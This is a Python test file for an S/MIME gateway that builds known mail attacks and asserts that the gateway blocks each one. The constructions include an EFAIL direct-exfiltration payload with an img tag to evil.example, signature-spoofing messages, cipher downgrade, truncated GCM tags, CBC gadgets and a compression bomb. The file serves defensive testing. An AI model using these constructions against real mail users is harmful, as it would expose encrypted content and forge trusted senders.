# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The Sealgate authors
"""Own constructions of the known attacks on S/MIME mail, each with the verdict
that it must get: nothing of the secret where it does not belong, and "good"
for nothing that is not. EFAIL, "Johnny, you are fired", covert content, the
downgrade of RFC 9709, short tags, bombs."""
import zlib

import pytest

from harness import message, run
from test_open_path import CLEAR, OTTO, parts, verdicts
from test_open_smime import (  # noqa: F401
    EVE, INNER, SECRET, b64, head, p7m, people, seal, sign)


@pytest.fixture(scope="module")
def opened(people):  # noqa: F811
    """A gateway for all rows: send, and get what the internal server gets."""
    import pathlib
    import shutil
    import tempfile

    from capture import Capture
    from harness import Gateway
    root = pathlib.Path(tempfile.mkdtemp(prefix="sge-attack."))
    root.chmod(0o755)
    capture = Capture().start()
    gw = Gateway(root / "gw", capture.port, portal=False, rules=CLEAR, inbound=capture.port,
                 listen_in="").start()
    gw.cli("key", "import", people.otto_pem, people.eve[0])

    def through(text):
        n = len(capture.messages)
        gw.send_in(EVE, OTTO, text)
        return capture.wait(n + 1)[n].data

    through.gw = gw
    yield through
    gw.close()
    capture.stop()
    shutil.rmtree(root, ignore_errors=True)


# --- a little DER

def tlv(tag, body):
    size = len(body)
    if size < 128:
        return bytes([tag, size]) + body
    octets = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(octets)]) + octets + body


def split(der):
    """The members of a constructed value: [(tag, whole, contents), ...]."""
    out, at = [], 0
    while at < len(der):
        tag, size, start = der[at], der[at + 1], at + 2
        if size & 0x80:
            n = size & 0x7f
            size, start = int.from_bytes(der[start:start + n], "big"), start + n
        out.append((tag, der[at:start + size], der[start:start + size]))
        at = start + size
    return out


def contents(der):
    """The members of what a ContentInfo holds."""
    return split(split(split(split(der)[0][2])[1][2])[0][2])


def content_info(oid, members):
    return tlv(0x30, oid + tlv(0xa0, tlv(0x30, b"".join(members))))


ENVELOPED = bytes.fromhex("06092a864886f70d010703")
AUTH_ENVELOPED = bytes.fromhex("060b2a864886f70d0109100117")
COMPRESSED = bytes.fromhex("060b2a864886f70d0109100109")
DATA = bytes.fromhex("06092a864886f70d010701")
CBC = bytes.fromhex("060960864801650304012a")
GCM = bytes.fromhex("060960864801650304012e")
ZLIB = bytes.fromhex("060b2a864886f70d0109100308")


def der_form(cms):
    """openssl streams with indefinite lengths; this is DER."""
    return run("openssl", "cms", "-cmsout", "-inform", "DER", "-outform", "DER", input=cms).stdout


# --- the constructions

def direct_exfiltration(p):
    return head() + (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
        b'<img src="http://evil.example/\r\n--b\r\n'
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(seal(INNER, p.otto[0])) +
        b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n')


def covert_in_attachment(p):
    return head() + (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
        b"please answer\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n" +
        p7m(seal(INNER, p.otto[0])) + b"\r\n--b--\r\n")


def signed_around_sealed(p):
    """Mallory's signature around what eve sealed, under eve's name and hers."""
    inner = (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(seal(INNER, p.otto[0])))
    return head() + sign(inner, *p.eve)


def signed_part_among_others(p):
    return head() + (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
        b"pay them\r\n--b\r\n" + sign(INNER, *p.eve) + b"\r\n--b--\r\n")


def text_behind_the_signature(p):
    return head() + sign(INNER, *p.eve) + b"pay them\r\n"


def two_contents(p):
    """The signature has a content of its own, and stands beside another one."""
    der = run("openssl", "cms", "-sign", "-binary", "-nodetach", "-outform", "DER", "-signer",
              p.eve[0], "-inkey", p.eve[1], input=INNER).stdout
    return head() + (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";\r\n'
        b' micalg=sha-256; boundary="s"\r\n\r\n--s\r\nContent-Type: text/plain\r\n\r\npay them\r\n'
        b"--s\r\nContent-Type: application/pkcs7-signature\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) + b"\r\n--s--\r\n")


def no_signer(p):
    der = run("openssl", "crl2pkcs7", "-nocrl", "-certfile", p.eve[0], "-outform", "DER").stdout
    return head() + (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";\r\n'
        b' micalg=sha-256; boundary="s"\r\n\r\n--s\r\n' + INNER + b"\r\n--s\r\n"
        b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64(der) + b"\r\n--s--\r\n")


def changed_text(p):
    return head() + sign(INNER, *p.eve).replace(SECRET, b"pay them, and do it now")


def two_authors(p):
    return (b"From: boss@partner.example, %s\r\n" % EVE.encode() +
            head().partition(b"\r\n")[2] + sign(INNER, *p.eve))


def two_from_fields(p):
    return b"From: boss@partner.example\r\n" + head() + sign(INNER, *p.eve)


def address_in_the_name(p):
    """The signer's address stands where another parser may look for one."""
    return (b'From: "%s" <boss@partner.example>\r\n' % EVE.encode() +
            head().partition(b"\r\n")[2] + sign(INNER, *p.eve))


def address_in_a_comment(p):
    return (b"From: boss@partner.example (%s)\r\n" % EVE.encode() +
            head().partition(b"\r\n")[2] + sign(INNER, *p.eve))


def aead_as_cbc(p):
    """RFC 9709: the same content key, another mode."""
    version, rids, content, *_ = contents(der_form(seal(INNER, p.otto[0])))
    text = split(content[2])[2][2]
    text += bytes(-len(text) % 16)
    return p7m(content_info(ENVELOPED, [tlv(2, b"\0"), rids[1], tlv(0x30, DATA + tlv(
        0x30, CBC + tlv(4, bytes(16))) + tlv(0x80, text))]))


def short_tag(p):
    version, rids, content, *rest = contents(der_form(seal(INNER, p.otto[0])))
    kind, alg, text = split(content[2])
    nonce = split(split(alg[2])[1][2])[0][1]
    short = tlv(0x30, kind[1] + tlv(0x30, GCM + tlv(0x30, nonce + tlv(2, b"\1"))) + text[1])
    return p7m(content_info(AUTH_ENVELOPED, [version[1], rids[1], short, tlv(4, rest[-1][2][:1])]),
               kind=b"authEnveloped-data")


def gadget(p):
    """CBC: another first block by another IV."""
    version, rids, content = contents(der_form(seal(INNER, p.otto[0], cipher="-aes-256-cbc")))[:3]
    kind, alg, text = split(content[2])
    oid, iv = split(alg[2])
    other = bytes(a ^ b for a, b in zip(iv[2], b"\0" * 8 + b"XXXXXXXX"))
    return p7m(content_info(ENVELOPED, [version[1], rids[1], tlv(
        0x30, kind[1] + tlv(0x30, oid[1] + tlv(4, other)) + text[1])]))


def bomb(p):
    text = b"Content-Type: text/plain\r\n\r\n" + b"0" * (150 << 20)
    return p7m(content_info(COMPRESSED, [tlv(2, b"\0"), tlv(0x30, ZLIB), tlv(
        0x30, DATA + tlv(0xa0, tlv(4, zlib.compress(text, 9))))]), kind=b"compressed-data")


def many_layers(p):
    entity = INNER
    for _ in range(12):
        entity = (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                  b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(seal(entity, p.otto[0])))
    return head() + entity


def looks_encrypted(p):
    return head() + (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                     b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"pay them"))


ROWS = [
    # construction, the words of its verdict, is the secret in what is delivered
    (direct_exfiltration, "partial", False),
    (covert_in_attachment, "partial", False),
    (signed_around_sealed, "encrypted, partial", True),
    (signed_part_among_others, "partial", True),
    (text_behind_the_signature, "partial", True),
    (two_contents, "signed-bad", False),
    (no_signer, "none", True),
    (changed_text, "signed-bad", False),
    (two_authors, "signed-by-other", True),
    (two_from_fields, "none", True),
    (address_in_the_name, "signed-by-other", True),
    (address_in_a_comment, "signed-by-other", True),
    (aead_as_cbc, "undecryptable", False),
    (short_tag, "undecryptable", False),
    (gadget, "undecryptable", False),
    (bomb, "none", False),
    (many_layers, "undecryptable", False),
    (looks_encrypted, "undecryptable", False),
]


@pytest.mark.parametrize("make, verdict, readable", ROWS, ids=[r[0].__name__ for r in ROWS])
def test_the_verdict(opened, people, make, verdict, readable):  # noqa: F811
    got = opened(make(people))
    assert len(verdicts(got)) == 1
    assert verdicts(got)[0].split(b";")[0].decode() == verdict, verdicts(got)
    assert (SECRET in got) == readable and b"smime=pass" not in got


def test_nobody_died_of_it(opened):
    """And honest mail still comes through."""
    assert "opener-died" not in opened.gw.log() and "sandbox" not in opened.gw.log()
    assert b"fine" in opened(message(sender=EVE, to=OTTO, body="fine\r\n"))
    assert parts(opened(message(sender=EVE, to=OTTO)))[0]
